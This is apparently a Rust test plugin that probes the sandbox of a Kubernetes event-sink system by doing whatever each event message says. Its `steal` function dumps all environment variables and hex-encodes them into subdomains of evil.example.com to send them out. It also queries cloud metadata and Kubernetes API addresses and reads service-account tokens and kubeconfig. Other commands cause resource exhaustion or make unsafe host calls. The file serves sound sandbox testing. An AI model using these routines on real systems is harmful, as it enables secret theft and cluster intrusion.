//! A sink for tests of the cage: it does what the message of each event tells it, and says on its
//! stdout what came of it.
//!
//! | message | what it does |
//! |---|---|
//! | `env NAME` | says whether it sees the variable |
//! | `show NAME` | says the variable's value |
//! | `environment` | says the names of all variables that it sees |
//! | `get URL` | sends a request, says the status or the error |
//! | `header NAME URL` | sends a request with that header |
//! | `file PATH` | tries to open a file |
//! | `connect ADDRESS` | tries to open a socket |
//! | `raw` | says how long Kubernetes' own JSON of the event is |
//! | `trap` | traps |
//! | `loop` | computes for ever |
//! | `sleep` | waits for an hour |
//! | `grow MIB` | takes so much memory |
//! | `index` | names the failure of an event that was not given |
//! | `reveal NAME` | says a variable's value in every encoding that it knows |
//! | `excuse NAME` | names this event as one that it will never store, with such a value as the reason |
//! | `steal` | says all variables so, and tries hosts, one of them made of each value |
//! | `lines COUNT` | says so many lines |
//! | `line KIB` | says one line of that length |
//! | `alias COUNT MIB` | sends so many requests at once, which share a body in its memory |
//! | `timers COUNT` | makes so many timers, and keeps them |
//! | `poll` | waits for two timers that never come |
//! | `failures COUNT` | names so many failures |
//! | `reason MIB` | gives a reason of that size |
//! | `headers COUNT BYTES URL` | sends a request with so many headers of that size |
//! | `post MIB URL` | sends a request with a body of that size |
//! | `all COUNT URL` | sends so many requests at once |
//! | `refuse` | refuses the whole batch |
//! | `fail` | names this event as one that it will never store |
//! | anything else | nothing: the event is stored |
//!
//! Its variable `PROBE_OPEN` says what it does when it is opened: `trap`, `loop` or `refuse`.

wit_bindgen::generate!({ path: "../../../wit", world: "sink", generate_all });

use exports::kubedl::events::event_sink::{Batch, Description, EnvVar, Error, Failure, Guest};
use kubedl::events::types::Event;
use kubedl::events::{http, raw_event};

struct Probe;

impl Guest for Probe {
    fn describe() -> Description {
        Description {
            name: "probe".into(),
            version: env!("CARGO_PKG_VERSION").into(),
            summary: format!(
                "Does what messages tell it; saw {} variables",
                std::env::vars().count()
            ),
            env: vec![EnvVar {
                name: "PROBE_OPTIONAL".into(),
                help: "Nothing".into(),
                required: false,
                secret: true,
            }],
            hosts: vec![],
            batch_events: 0,
            batch_bytes: 0,
            attributes: vec![],
        }
    }

    fn open() -> Result<(), Error> {
        match std::env::var("PROBE_OPEN").as_deref() {
            Ok("refuse") => return Err(Error::Misconfigured("told so".into())),
            Ok(word) => act(word, ""),
            Err(_) => {}
        }
        Ok(())
    }

    fn save_events(_: Batch, events: Vec<Event>) -> Result<Vec<Failure>, Error> {
        let mut failures = Vec::new();
        for (index, event) in (0..).zip(&events) {
            let (word, rest) = event
                .message
                .split_once(' ')
                .unwrap_or((&event.message, ""));
            match word {
                "refuse" => return Err(Error::Refused("told so".into())),
                "index" => failures.push(failure(u32::try_from(events.len()).unwrap_or(u32::MAX))),
                "fail" => failures.push(failure(index)),
                "excuse" => failures.push(Failure {
                    reason: encodings(&std::env::var(rest).unwrap_or_default()).join(" "),
                    ..failure(index)
                }),
                "reason" => failures.push(Failure {
                    reason: "x".repeat(number(rest) << 20),
                    ..failure(index)
                }),
                "failures" => failures.extend((0..number(rest)).map(|_| failure(index))),
                "raw" => println!("raw {}", raw_event::get(index).map_or(0, |json| json.len())),
                _ => act(word, rest),
            }
        }
        Ok(failures)
    }

    fn close() -> Result<(), Error> {
        println!("closed");
        Ok(())
    }
}

fn failure(index: u32) -> Failure {
    Failure {
        index,
        retryable: false,
        after_ms: None,
        reason: "told so".into(),
    }
}

fn act(word: &str, rest: &str) {
    match word {
        "env" => println!(
            "env {rest} {}",
            if std::env::var(rest).is_ok() {
                "seen"
            } else {
                "absent"
            }
        ),
        "show" => println!("{rest} is {:?}", std::env::var(rest)),
        "environment" => println!(
            "environment {:?}",
            std::env::vars().map(|(name, _)| name).collect::<Vec<_>>()
        ),
        "get" => println!("get {rest} {}", get(rest, None)),
        "header" => {
            let (name, url) = rest.split_once(' ').unwrap_or((rest, ""));
            println!("header {name} {}", get(url, Some(name)));
        }
        "file" => println!(
            "file {rest} {:?}",
            std::fs::read(rest)
                .map(|bytes| bytes.len())
                .map_err(|why| why.kind())
        ),
        "connect" => println!(
            "connect {rest} {:?}",
            std::net::TcpStream::connect(rest)
                .map(drop)
                .map_err(|why| why.kind())
        ),
        "trap" => std::process::abort(),
        "loop" => loop {
            std::hint::black_box(());
        },
        "sleep" => std::thread::sleep(std::time::Duration::from_secs(3600)),
        "grow" => {
            let bytes = rest.parse::<usize>().unwrap_or(0) << 20;
            println!("grown {}", std::hint::black_box(vec![1_u8; bytes]).len());
        }
        "reveal" => reveal(rest),
        "steal" => steal(),
        "lines" => (0..number(rest)).for_each(|line| println!("line {line} of a flood")),
        "line" => println!("{}", "long ".repeat(number(rest) * 1024 / 5)),
        "poll" => hostile::wait(),
        "timers" => println!("timers {}", hostile::timers(number(rest))),
        "alias" => {
            let (count, mib) = rest.split_once(' ').unwrap_or((rest, "1"));
            println!("alias {}", hostile::alias(number(count), number(mib) << 20));
        }
        _ => send(word, rest),
    }
}

fn number(text: &str) -> usize {
    text.parse().unwrap_or(0)
}

/// Words that send more than a request without anything.
fn send(word: &str, rest: &str) {
    let (first, others) = rest.split_once(' ').unwrap_or((rest, ""));
    let plain = |url: &str| http::Request {
        method: "POST".into(),
        url: url.into(),
        headers: vec![],
        body: vec![],
        timeout_ms: None,
    };
    match word {
        "headers" => {
            let (bytes, url) = others.split_once(' ').unwrap_or((others, ""));
            let headers = (0..number(first))
                .map(|n| (format!("x-{n}"), vec![b'v'; number(bytes)]))
                .collect();
            println!(
                "headers {first} {bytes} {}",
                outcome(http::send(&http::Request {
                    headers,
                    ..plain(url)
                }))
            );
        }
        "post" => println!(
            "post {first} {}",
            outcome(http::send(&http::Request {
                body: vec![b'b'; number(first) << 20],
                ..plain(others)
            }))
        ),
        "all" => {
            let answers = http::send_all(
                &(0..number(first))
                    .map(|_| plain(others))
                    .collect::<Vec<_>>(),
            );
            let bytes: usize = answers
                .iter()
                .flatten()
                .map(|response| response.body.len())
                .sum();
            let last = answers.into_iter().last().map_or_else(String::new, outcome);
            println!("all {first} bytes {bytes} the last {last}");
        }
        _ => {}
    }
}

fn outcome(answer: Result<http::Response, http::Error>) -> String {
    match answer {
        Ok(response) => {
            format!(
                "status {} bytes {} truncated {} headers {}",
                response.status,
                response.body.len(),
                response.truncated,
                response.headers.len()
            )
        }
        Err(error) => format!("{error:?}"),
    }
}

fn reveal(name: &str) {
    for text in encodings(&std::env::var(name).unwrap_or_default()) {
        println!("reveal {name} {text}");
        eprintln!("{text}");
    }
}

fn steal() {
    for (name, value) in std::env::vars() {
        println!("stolen {name}={value}");
        reveal(&name);
        let host: String = value.bytes().map(|b| format!("{b:02x}")).collect();
        println!(
            "sent {}",
            get(&format!("https://{host}.evil.example.com/"), None)
        );
    }
    for host in [
        "169.254.169.254",
        "kubernetes.default.svc",
        "10.0.0.1:443",
        "localhost:6443",
        "metadata.google.internal",
        "[fd00:ec2::254]",
    ] {
        for scheme in ["http", "https"] {
            println!(
                "tried {scheme}://{host} {}",
                get(&format!("{scheme}://{host}/"), None)
            );
        }
    }
    for path in [
        "/var/run/secrets/kubernetes.io/serviceaccount/token",
        "/proc/self/environ",
        "/home/nonroot/.kube/config",
    ] {
        println!(
            "tried {path} {:?}",
            std::fs::read(path).map(|bytes| bytes.len())
        );
    }
}

/// As it is, base64 at three alignments and in two alphabets, hex in both cases, percent-encoded,
/// as JSON.
fn encodings(text: &str) -> Vec<String> {
    let hex: String = text.bytes().map(|b| format!("{b:02x}")).collect();
    let mut all = vec![
        text.to_owned(),
        hex.to_uppercase(),
        text.bytes().map(|b| format!("%{b:02X}")).collect(),
        format!("{text:?}"),
    ];
    all.push(text.bytes().map(|b| format!("\\u{b:04x}")).collect());
    all.push(hex);
    for before in ["", "a", "ab"] {
        for last in [*b"+/", *b"-_"] {
            all.push(base64(format!("{before}{text}:").as_bytes(), last));
        }
    }
    all
}

fn base64(bytes: &[u8], last: [u8; 2]) -> String {
    let alphabet: Vec<u8> = (b'A'..=b'Z')
        .chain(b'a'..=b'z')
        .chain(b'0'..=b'9')
        .chain(last)
        .collect();
    let group = |group: &[u8]| {
        let bits = group
            .iter()
            .chain([0, 0].iter())
            .take(3)
            .fold(0, |bits, byte| bits << 8 | usize::from(*byte));
        (0..=group.len())
            .map(|place| char::from(alphabet[bits >> (18 - 6 * place) & 63]))
            .collect::<String>()
    };
    bytes.chunks(3).map(group).collect()
}

/// What no safe code says: calls of the host with made-up layouts.
mod hostile {
    /// A list's element: a request as the canonical ABI lays it out, all texts as pointer and
    /// length.
    #[repr(C)]
    #[derive(Clone, Copy)]
    struct Request {
        method: (usize, usize),
        url: (usize, usize),
        headers: (usize, usize),
        body: (usize, usize),
        timeout: (u32, u32),
    }

    #[link(wasm_import_module = "kubedl:events/http@0.1.0")]
    unsafe extern "C" {
        #[link_name = "send-all"]
        fn send_all(requests: *const Request, count: usize, answers: *mut [usize; 2]);
    }

    #[link(wasm_import_module = "wasi:clocks/monotonic-clock@0.2.6")]
    unsafe extern "C" {
        #[link_name = "subscribe-duration"]
        fn subscribe_duration(nanoseconds: u64) -> u32;
    }

    #[link(wasm_import_module = "wasi:io/poll@0.2.6")]
    unsafe extern "C" {
        #[link_name = "poll"]
        fn poll(timers: *const u32, count: usize, ready: *mut [usize; 2]);
    }

    /// An hour, in nanoseconds.
    const LONG: u64 = 3_600_000_000_000;

    pub fn alias(count: usize, bytes: usize) -> usize {
        let (method, url, body) = (
            "POST",
            "https://not.granted.example.com/",
            vec![0_u8; bytes],
        );
        let text = |text: &str| (text.as_ptr() as usize, text.len());
        let one = Request {
            method: text(method),
            url: text(url),
            headers: (4, 0),
            body: (body.as_ptr() as usize, body.len()),
            timeout: (0, 0),
        };
        let (requests, mut answers) = (vec![one; count], [0; 2]);
        // SAFETY: the layout is the canonical ABI's, and all that it points to lives until the end.
        unsafe { send_all(requests.as_ptr(), count, &mut answers) };
        answers[1]
    }

    pub fn timers(count: usize) -> usize {
        // SAFETY: takes a number, gives a handle.
        (0..count)
            .map(|_| unsafe { subscribe_duration(LONG) })
            .filter(|handle| *handle != 0)
            .count()
    }

    pub fn wait() {
        // SAFETY: takes a number, gives a handle.
        let timers = [(); 2].map(|()| unsafe { subscribe_duration(LONG) });
        let mut ready = [0; 2];
        // SAFETY: the list lives until the end, and the answer is written into two words.
        unsafe { poll(timers.as_ptr(), timers.len(), &mut ready) };
    }
}

fn get(url: &str, header: Option<&str>) -> String {
    let headers = header
        .map(|name| (name.to_owned(), b"x".to_vec()))
        .into_iter()
        .collect();
    let request = http::Request {
        method: "GET".into(),
        url: url.into(),
        headers,
        body: vec![],
        timeout_ms: None,
    };
    outcome(http::send(&request))
}

export!(Probe);
